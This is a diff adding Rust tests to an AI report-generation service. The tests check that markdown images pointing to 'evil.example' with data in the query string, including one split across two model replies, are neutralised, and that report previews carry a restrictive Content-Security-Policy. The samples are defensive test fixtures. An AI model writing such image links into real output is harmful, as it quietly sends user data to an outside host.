@@ -115,6 +115,24 @@ async fn what_is_wrong_with_a_call_is_told_with_what_is_allowed() {
 }
 
 #[tokio::test]
+async fn no_report_has_images_that_its_writer_made_up() {
+    let world = start(Djinn::new()).await;
+    at(&world.model, "").call("report_tool", call("markdown", "r.md")).then().reply("See r.md.");
+    // The fence is taken off, and both replies are one text.
+    let rule = at(&world.model, "t1.c1");
+    let rule =
+        rule.say("```markdown\n# Sales\n\n![a](https://evil.example/?d=1)\n\n![b").finish("length");
+    rule.then()
+        .reply("](https://evil.example/?d=2)\n\n<img src=\"chart.png\"> ![c](chart.png)\n```");
+    let frames = world.ask(Protocol::Native, &Question::of(QUESTION, "s1")).await.rest().await;
+    let file = &frames.last().unwrap().json()["files"][0];
+    let text = world.follow(file["download_url"].as_str().unwrap()).await.text;
+    let expected = "# Sales\n\n[a](https://evil.example/?d=1)\n\n![b] (https://evil.example/?d=2)\n\n\
+        <img src=\"chart.png\"> ![c](chart.png)\n";
+    assert_eq!(text, expected);
+}
+
+#[tokio::test]
 async fn without_a_sandbox_only_markdown_can_be_made_and_the_caller_is_told_why() {
     let world = start(Djinn::new()).await;
     at(&world.model, "").call("report_tool", call("docx", "r.docx")).then().reply("It cannot be.");
@@ -189,6 +207,14 @@ async fn a_report_comes_in_every_form_with_the_chart_that_code_drew() {
                 let has_chart = text.contains("data:image/png;base64,");
                 assert!(has_chart && text.contains("Content-Security-Policy"), "{form}");
                 assert!(!text.contains("x.example") && !text.contains("alert(1)"), "{form}");
+                // Its reader can turn the slides of a deck, and open its sources.
+                let shown = world.follow(file["preview_url"].as_str().unwrap()).await;
+                let policy = shown.header("content-security-policy").to_owned();
+                assert!(
+                    policy.ends_with("allow-scripts allow-popups allow-popups-to-escape-sandbox"),
+                    "{policy}"
+                );
+                assert_eq!(shown.text, text);
             }
             "pdf" => assert!(text.starts_with("%PDF-") && text.len() > 5_000, "{form}"),
             _ => assert!(text.starts_with("PK") && text.len() > 5_000, "{form}"),
